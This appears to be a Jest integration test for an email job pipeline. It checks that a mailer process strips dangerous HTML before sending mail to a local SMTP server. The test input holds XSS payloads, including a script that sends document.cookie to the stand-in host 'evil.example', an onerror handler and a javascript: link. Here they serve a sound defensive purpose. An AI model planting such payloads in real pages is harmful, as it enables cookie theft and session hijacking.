import { spawn, type ChildProcess } from 'node:child_process'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import type { AddressInfo } from 'node:net'
import { SMTPServer } from 'smtp-server'
import { Harness } from '../harness'

const MAILER_JS = join(__dirname, '..', '..', '..', 'mailer', 'dist', 'server.js')

/** A real SMTP server on a free port standing in for the outside mail system; keeps each raw message. */
async function startSmtpServer(): Promise<{ server: SMTPServer; port: number; mails: string[] }> {
  const mails: string[] = []
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    logger: false,
    onData(stream, _session, callback) {
      const chunks: Buffer[] = []
      stream.on('data', (c: Buffer) => chunks.push(c))
      stream.on('end', () => { mails.push(Buffer.concat(chunks).toString('utf8')); callback() })
    }
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, port: (server.server.address() as AddressInfo).port, mails }
}

/** Undoes quoted-printable (soft breaks, =XX) so the HTML part reads as sent. */
function decodeQuotedPrintable(raw: string): string {
  return Buffer.from(raw.replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1').toString('utf8')
}

describe('email job HTML: worker -> RabbitMQ -> mailer (its own process) -> SMTP', () => {
  let h: Harness
  let smtp: Awaited<ReturnType<typeof startSmtpServer>>
  let mailer: ChildProcess
  let mailerExited: Promise<unknown>

  beforeAll(async () => {
    if (!existsSync(MAILER_JS)) throw new Error(`${MAILER_JS} is missing: run npm run build first`)
    smtp = await startSmtpServer()
    h = await new Harness().open()
    await h.startWorker()
    mailer = spawn(process.execPath, [MAILER_JS], {
      env: { ...process.env, ...h.env, SMTP_URL: `smtp://127.0.0.1:${smtp.port}`, LOG_LEVEL: 'warn' },
      stdio: 'ignore'
    })
    mailerExited = new Promise((resolve) => mailer.once('exit', resolve))
  })
  afterAll(async () => {
    if (mailer.exitCode === null && mailer.signalCode === null) {
      mailer.kill('SIGTERM')
      await mailerExited
    }
    await h.close()
    await new Promise<void>((resolve) => smtp.server.close(() => resolve()))
  })

  test('a <script>, an onerror= handler and a javascript: link never reach the SMTP server; the harmless markup does', async () => {
    const html = '<p>Your report is <b>ready</b>.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
      '<img src="x" onerror="alert(document.domain)"><a href="javascript:alert(1)">open</a>' +
      '<a href="https://example.com/report">report</a>'
    const id = await h.submit('email', { to: 'ada@example.com', subject: 'Report', text: 'Your report is ready.', html })
    await h.waitForStatus(id, 'DONE')
    while (smtp.mails.length === 0) await new Promise((resolve) => setTimeout(resolve, 20))
    const sent = decodeQuotedPrintable(smtp.mails[0]!)
    expect(sent).toContain('<p>Your report is <b>ready</b>.</p>')
    expect(sent).toContain('<a href="https://example.com/report">report</a>')
    expect(sent).not.toMatch(/<script|onerror|javascript:|evil\.example|<img/i)
  })
})
